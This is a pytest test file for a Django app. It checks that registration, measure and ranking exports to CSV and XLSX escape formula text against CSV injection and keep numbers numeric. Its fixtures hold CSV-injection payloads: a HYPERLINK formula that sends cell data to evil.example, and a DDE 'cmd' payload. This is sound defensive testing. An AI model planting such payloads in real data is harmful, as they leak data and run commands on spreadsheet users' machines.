"""Exports never hand a spreadsheet a formula to run (OWASP CSV injection), and still import back unchanged."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from events import services
from events.services import Applicant
from tests.test_evaluations_admin import ranking_world
from tests.test_evaluations_fixtures import call, coordinator, evaluation, evaluators  # noqa: F401 (fixtures)
from tests.test_events_fixtures import add_event, event_index  # noqa: F401 (fixture)
from tests.test_registration_admin import keeper  # noqa: F401 (fixture)
from vvg.core import importing
from vvg.core.models import Measure
from vvg.evaluations.models import Application

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Spausk")'
REGISTRATIONS = "/admin/registers/events/registration/"


@pytest.fixture
def event(event_index):
    event = add_event(event_index, "Mokymai pareiškėjams", capacity=5)
    services.register(event, Applicant(
        name=HOSTILE_NAME, email="x@example.lt", phone="+370 600 00001", organisation_name="@SUM(1+1)",
        processing_consent=True,
    ))
    services.register(event, Applicant(name="-2+3+cmd|' /C calc'!A0", email="y@example.lt", processing_consent=True))
    return event


def csv_rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_export_puts_an_apostrophe_before_formula_text_and_imports_back_unchanged(keeper, event):
    content = keeper.get(REGISTRATIONS + "export/csv/").content
    rows = {row["email"]: row for row in csv_rows(content)}
    assert rows["x@example.lt"]["name"] == "'" + HOSTILE_NAME
    assert rows["x@example.lt"]["organisation_name"] == "'@SUM(1+1)"
    assert rows["x@example.lt"]["phone"] == "'+370 600 00001"
    assert rows["y@example.lt"]["name"] == "'-2+3+cmd|' /C calc'!A0"

    from events.resources import RegistrationResource

    report = importing.run_import(RegistrationResource, content, "csv", dry_run=True)
    assert report.ok and report.totals == {"unchanged": 2}


def test_xlsx_export_keeps_formula_text_as_quoted_text(keeper, event):
    content = keeper.get(REGISTRATIONS + "export/xlsx/").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    [cell] = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE_NAME]
    # quotePrefix is Excel's own leading apostrophe: shown and edited as text, the value stays exact.
    assert cell.data_type == "s" and cell.quotePrefix

    attendance = keeper.get(f"/admin/events/{event.pk}/attendance/xlsx/").content
    sheet = openpyxl.load_workbook(io.BytesIO(attendance)).active
    [cell] = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE_NAME]
    assert cell.data_type == "s" and cell.quotePrefix


def test_negative_numbers_of_numeric_fields_stay_numbers(keeper):
    Measure.objects.create(code="VPS-9", name="-Korekcija", budget=Decimal("-5"))
    csv_content = keeper.get("/admin/registers/vvg_core/measure/export/csv/").content
    [row] = csv_rows(csv_content)
    assert row["budget"] == "-5.00" and row["name"] == "'-Korekcija"

    sheet = openpyxl.load_workbook(io.BytesIO(keeper.get("/admin/registers/vvg_core/measure/export/xlsx/").content)).active
    header = [cell.value for cell in sheet[1]]
    budget = sheet.cell(row=2, column=header.index("budget") + 1)
    assert budget.value == -5 and budget.data_type == "n"


def test_ranking_exports_escape_formula_text_and_keep_points_numeric(
    client, call, evaluation, evaluators, coordinator  # noqa: F811
):
    first, _second, _third = ranking_world(call, evaluators, coordinator)
    Application.objects.filter(pk=first.pk).update(title=HOSTILE_NAME)
    client.force_login(coordinator)
    url = f"/admin/evaluations/ranking/{evaluation.pk}/"
    table = list(csv.reader(io.StringIO(client.get(url, {"format": "csv"}).content.decode("utf-8-sig"))))
    assert table[1][3] == "'" + HOSTILE_NAME and table[1][-3] == "52.00"

    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    title, total = sheet.cell(row=3, column=4), sheet.cell(row=3, column=len(table[0]) - 2)
    assert title.value == HOSTILE_NAME and title.data_type == "s" and title.quotePrefix
    assert total.data_type == "n" and total.value == 52
